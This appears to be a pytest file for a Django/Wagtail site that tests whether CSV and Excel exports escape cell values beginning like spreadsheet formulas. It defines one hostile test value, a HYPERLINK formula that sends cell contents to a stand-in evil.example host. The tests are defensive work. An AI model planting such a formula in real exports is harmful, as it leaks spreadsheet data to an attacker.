"""Tables to take along run nothing in a spreadsheet, whoever's list they come from."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook
from wagtail.log_actions import log

from safety.exports import FORMULA, as_text, without_formulas
from tests import factories

pytestmark = pytest.mark.django_db
HOSTILE = '=HYPERLINK("https://evil.example/?"&A1)'


@given(st.lists(st.lists(st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=9), min_size=1, max_size=4), max_size=4))
def test_law_no_cell_begins_like_a_formula_and_no_other_is_changed(rows):
    pieces = []
    for row in rows:
        written = io.StringIO(newline="")
        csv.writer(written).writerow(row)
        pieces.append(written.getvalue().encode())
    after = list(csv.reader(io.StringIO(b"".join(without_formulas(pieces)).decode(), newline="")))
    assert after == [[as_text(value) for value in row] for row in rows]
    assert not [value for row in after for value in row if value.startswith(FORMULA)]


@pytest.fixture
def admin(client):
    client.force_login(factories.administrator())
    return client


@pytest.fixture
def hostile():
    """A page whose title is a formula, in a log entry as well."""
    page = factories.service(HOSTILE)
    log(page, "wagtail.edit", user=factories.administrator("second"), title=HOSTILE)
    return page


EXPORTS = {"wagtailadmin_reports:site_history": 2, "wagtailadmin_reports:aging_pages": 1, "services:index": 1}


@pytest.mark.parametrize("name", EXPORTS)
def test_a_title_that_is_a_formula_is_text_in_lists_of_ours_and_of_wagtails(admin, hostile, name):
    answer = admin.get(reverse(name), {"export": "csv"})
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode(), newline="")))
    cells = [value for row in rows for value in row]
    assert f"'{HOSTILE}" in cells
    assert not [value for value in cells if value.startswith(FORMULA)]


@pytest.mark.parametrize("name", EXPORTS)
def test_in_a_workbook_it_is_no_formula_either(admin, hostile, name):
    answer = admin.get(reverse(name), {"export": "xlsx"})
    book = load_workbook(io.BytesIO(b"".join(answer.streaming_content)))
    cells = [cell for row in book.active.iter_rows() for cell in row]
    assert HOSTILE in [cell.value for cell in cells]
    assert not [cell for cell in cells if cell.data_type == "f"]


def test_lists_without_rows_are_handed_out_too(admin):
    assert b"".join(admin.get(reverse("services:index"), {"export": "csv"}).streaming_content).startswith(b"Title")
